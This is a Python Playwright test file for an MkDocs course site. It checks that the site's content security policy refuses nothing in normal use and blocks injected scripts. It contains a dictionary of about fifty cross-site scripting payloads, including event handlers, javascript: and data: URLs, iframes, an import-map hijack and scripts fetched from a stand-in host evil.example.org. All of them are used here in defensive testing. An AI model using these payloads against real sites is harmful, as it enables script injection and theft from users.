"""The policy in a real browser: a reader never meets it, and a script in a text never passes it."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import ROOT
from diglot.video import PLAYER
from mkdocs.commands.build import build
from mkdocs.config import load_config
from playwright.sync_api import Browser, Page, Route, expect
from practising import bank, context, is_fault, questions
from test_accessibility import LESSON, steps

__all__ = ["bank", "context", "questions"]

expect.set_options(timeout=15_000)

TELL = """addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sourceFile, lineNumber }) =>
    console.error(`refused ${effectiveDirective} ${blockedURI} ${sourceFile}:${lineNumber}`))"""


@pytest.fixture
def refused(page: Page) -> list[str]:
    """What the browser complains of on any page that the reader opens, refusals before all."""
    found: list[str] = []
    page.add_init_script(TELL)
    page.on(
        "console", lambda said: found.append(f"{page.url}: {said.text}") if is_fault(said) or said.type == "warning" else None
    )
    page.on("pageerror", lambda error: found.append(f"{page.url}: {error}"))
    return found


# --------------------------------------------------------------------------------------------------- what readers meet


def test_nothing_is_refused_on_any_page(page, address, addresses, refused):
    for place in addresses:
        page.goto(address + place)
    assert refused == []


def test_a_refusal_is_noticed(page, address, refused):
    """The tests around this one are worth as much as it is."""
    page.goto(address)
    page.evaluate("document.body.setAttribute('style', 'color: red')")
    page.evaluate("document.body.append(Object.assign(new Image(), {src: 'https://elsewhere.example.org/a.png'}))")
    page.wait_for_function("performance.now() > 0")
    assert [re.findall(r"refused [\w-]+", line)[0] for line in refused if "refused" in line] == [
        "refused style-src-attr",
        "refused img-src",
    ]


def test_nothing_is_refused_to_someone_who_answers_questions_and_practises(page, address, questions, refused):
    assert len(list(steps(page, address, questions))) > 20
    assert refused == []


def test_nothing_is_refused_to_someone_who_searches_watches_copies_and_changes_the_colours(page, address, refused):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.route(f"{PLAYER}/**", lambda route: route.fulfill(body="<p>the player</p>", content_type="text/html"))
    page.goto(address + LESSON)
    page.keyboard.press("/")
    page.get_by_role("searchbox").fill("attention")
    expect(page.locator(".search__title").first).to_be_visible()
    page.keyboard.press("Escape")
    page.locator(".video__play").click()
    expect(page.frame_locator(".video iframe").get_by_text("the player")).to_be_visible()
    page.locator(".highlight").first.get_by_role("button").click()
    expect(page.locator(".md-dialog")).to_contain_text("Copied")
    page.locator("[data-colours=slate]").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    page.locator("a.model").first.hover()
    page.goto(f"{address}404.html")
    page.goto(f"{address}translations/")
    page.goto(f"{address}models/")
    page.locator("article a").first.focus()
    assert refused == []


def test_a_host_that_sends_the_headers_refuses_nothing_either(page, site, serve, refused):
    page.route(f"{PLAYER}/**", lambda route: route.fulfill(body="<p>the player</p>", content_type="text/html"))
    page.goto(serve(site, headers=True) + LESSON)
    page.keyboard.press("/")
    page.get_by_role("searchbox").fill("attention")
    expect(page.locator(".search__title").first).to_be_visible()
    page.keyboard.press("Escape")
    page.locator(".video__play").click()
    expect(page.frame_locator(".video iframe").get_by_text("the player")).to_be_visible()
    assert refused == []


# -------------------------------------------------------------------------------------------------- what strangers send

RUN = "console.log(/ran/)"  # without quotation marks, which would end an attribute
EVIL = "https://evil.example.org"

# What a stranger may try on a page, if nothing removes it. #pull is clicked; what stands in FRONT goes into the front matter.
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script in a paragraph": f"a <script>{RUN}</script> b",
    "module": f'<script type="module">{RUN}</script>',
    "script of another host": f'<script src="{EVIL}/run.js"></script>',
    "module of another host": f'<script type="module" src="{EVIL}/run.js"></script>',
    "script in an address": f'<script src="data:text/javascript,{RUN}"></script>',
    "module that imports an address": f'<script type="module">import "data:text/javascript,{RUN}"</script>',
    "script with a name that nobody gave": f'<script nonce="a" integrity="sha256-a">{RUN}</script>',
    "script in a drawing": f"<svg><script>{RUN}</script></svg>",
    "script in a shadow": f'<div><template shadowrootmode="open"><script>{RUN}</script></template></div>',
    "script that makes a worker": f"<script>new Worker(URL.createObjectURL(new Blob(['{RUN}'])))</script>",
    "script that evaluates": f'<script>setTimeout("{RUN}")</script>',
    "map of modules": f'<script type="importmap">{{"imports": {{"/assets/progress.js": "{EVIL}/module.js"}}}}</script>',
    "base": f'<base href="{EVIL}/">',
    "picture": f'<img src="none.png" alt="" onerror="{RUN}">',
    "picture in a paragraph": f'a <img src="none.png" alt="" onerror={RUN}> b',
    "picture that imports": f'<img src="none.png" alt="" onerror="import(\'data:text/javascript,{RUN}\')">',
    "drawing": f'<svg onload="{RUN}"></svg>',
    "animation of a drawing": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"></svg>',
    "link in a drawing": f'<svg><a id="pull" href="javascript:{RUN}"><text y="9">a</text></a></svg>',
    "link that is set": f'<svg><a id="pull"><set attributeName="href" to="javascript:{RUN}"/><text y="9">a</text></a></svg>',
    "formula": f'<math href="javascript:{RUN}" id="pull"><mi>a</mi></math>',
    "sound": f'<audio src="none.mp3" onerror="{RUN}"></audio>',
    "source of a video": f'<video><source src="none.mp4" onerror="{RUN}"></video>',
    "frame with a text": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame with a text and another host": f'<iframe srcdoc="<script src={EVIL}/run.js></script>"></iframe>',
    "frame with a script": f'<iframe src="javascript:{RUN}"></iframe>',
    "frame with an address": f'<iframe src="data:text/html,<script>{RUN}</script>"></iframe>',
    "frame that has loaded": f'<iframe onload="{RUN}"></iframe>',
    "object": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embedded": f'<embed src="data:text/html,<script>{RUN}</script>">',
    "embedded drawing": f'<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{RUN}%22/>">',
    "object that fails": f'<object data="none.png" onerror="{RUN}"></object>',
    "link": f'<a id="pull" href="javascript:{RUN}">a</a>',
    "link of Markdown": f"[a](javascript:{RUN}){{#pull}}",
    "link to a document": f'<a id="pull" href="data:text/html,<script>{RUN}</script>">a</a>',
    "attribute of Markdown": f"[a](#b){{#pull onclick={RUN}}}",
    "heading": f"## A {{#pull onclick={RUN}}}",
    "form": f'<form action="javascript:{RUN}"><button id="pull">a</button></form>',
    "button": f'<form><button id="pull" formaction="javascript:{RUN}">a</button></form>',
    "details": f'<details open ontoggle="{RUN}"><summary>a</summary>b</details>',
    "field": f'<input autofocus onfocus="{RUN}">',
    "text that can be edited": f'<p contenteditable tabindex="0" id="pull" onclick="{RUN}">a</p>',
    "style": f'<style>@keyframes a {{}}</style><b style="animation: a 1s" onanimationstart="{RUN}">a</b>',
    "body": f'<body onpageshow="{RUN}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    "refresh to a document": f'<meta http-equiv="refresh" content="0;url=data:text/html,<script>{RUN}</script>">',
    "style of another host": f'<link rel="stylesheet" href="none.css" onerror="{RUN}">',
    "title": f"FRONT title: </title><script>{RUN}</script>",
    "description": f"FRONT description: '\"><script>{RUN}</script>'",
    "option": f'/// quiz | Q\n    attrs: {{id: option}}\n\n- [x] a <img src="none.png" alt="" onerror="{RUN}">\n- [ ] b\n\n///',
    "caption": f'/// video | V\n    youtube: 0_4KEb08xrE\n\n<img src="none.png" alt="" onerror="{RUN}">\n///',
}

# Those that this browser, or our templates, make harmless without any policy.
TAME = {"description", "formula", "link to a document", "refresh", "refresh to a document", "title"}


@pytest.fixture(scope="module")
def open_house(tmp_path_factory) -> Path:
    """The site of a course without a sanitiser that has each of them on a page, and a question on it."""
    root = tmp_path_factory.mktemp("open")
    docs = root / "docs/en"
    docs.mkdir(parents=True)
    (docs / "_lang.yml").write_text("name: English\n", "utf-8")
    (docs / "index.md").write_text('# Home\n\n<script src="notes.txt"></script>\n', "utf-8")
    (docs / "notes.txt").write_text(RUN, "utf-8")
    for number, payload in enumerate(PAYLOADS.values()):
        front, text = (payload.removeprefix("FRONT "), "") if payload.startswith("FRONT ") else ("tags: []", payload)
        quiz = f"/// quiz | Q\n    attrs: {{id: q{number}}}\n\n- [x] a\n- [ ] b\n\n///\n"
        (docs / f"x{number}.md").write_text(f"---\n{front}\n---\n# A\n\n{text}\n\nb\n\n{quiz}", "utf-8")
    nav = ["index.md", *(f"x{number}.md" for number in range(len(PAYLOADS)))]
    before, _, rest = (ROOT / "mkdocs.yml").read_text("utf-8").partition("\nnav:\n")
    config = f"{before}\nnav: {json.dumps(nav)}\n\n{rest.partition(chr(10) * 2)[2]}"
    config = config.replace("custom_dir: overrides", f"custom_dir: {ROOT / 'overrides'}")
    (root / "mkdocs.yml").write_text(re.sub(r"\n  - diglot.sanitise.*", "", config), "utf-8")
    loaded = load_config(str(root / "mkdocs.yml"))
    loaded.plugins.on_startup(command="build", dirty=False)
    build(loaded)
    loaded.plugins.on_shutdown()
    return Path(loaded.site_dir)


def ran(browser: Browser, address: str, *, bypass_csp: bool) -> Iterator[str]:
    """The names of the payloads that run; without the policy all but tame ones are given the time that they need."""
    context = browser.new_context(bypass_csp=bypass_csp)
    context.route(f"{EVIL}/**", evil)
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    for number, name in enumerate(PAYLOADS):
        page.goto(f"{address}x{number}/")
        page.evaluate(
            "document.querySelector('#pull')?.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))"
        )
        for _ in range(100 if bypass_csp and name not in TAME else 2):
            if "/ran/" not in said:
                page.wait_for_timeout(50)
        if "/ran/" in said:
            yield name
        page.goto("about:blank")
        said.clear()
    context.close()


def evil(route: Route) -> None:
    """A script for whatever is asked of the stranger's host."""
    exported = "; export const open = 1, shuffled = 1" if route.request.url.endswith("/module.js") else ""
    route.fulfill(body=RUN + exported, headers={"content-type": "text/javascript", "access-control-allow-origin": "*"})


def test_without_a_sanitiser_the_policy_alone_lets_nothing_run(browser, open_house, serve):
    assert list(ran(browser, serve(open_house), bypass_csp=False)) == []


def test_without_the_policy_too_nearly_everything_runs(browser, open_house, serve):
    """The test above is worth as much as this one."""
    found = set(ran(browser, serve(open_house), bypass_csp=True))
    assert (PAYLOADS.keys() - found, len(found) >= 28) == (TAME, True)


def test_where_headers_are_sent_a_text_file_of_the_site_is_no_script(page, open_house, serve):
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(serve(open_house))
    assert "/ran/" in said  # security.md says so
    said.clear()
    page.goto(serve(open_house, headers=True))
    assert [line for line in said if "/ran/" in line] == []
    assert "strict MIME type checking is enabled" in " ".join(said)
